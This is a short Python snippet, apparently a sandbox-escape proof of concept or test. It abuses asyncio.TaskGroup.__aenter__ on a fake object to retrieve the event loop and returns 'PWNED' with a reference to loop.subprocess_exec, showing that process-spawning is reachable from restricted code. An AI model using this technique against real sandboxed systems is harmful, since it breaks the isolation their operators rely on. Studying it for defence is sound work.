import asyncio


class Duck:
    _entered = False
    _loop = None


async def main():
    duck = Duck()
    await asyncio.TaskGroup.__aenter__(duck)
    return duck._loop


loop = asyncio.run(main())
return "PWNED " + repr(loop.subprocess_exec)
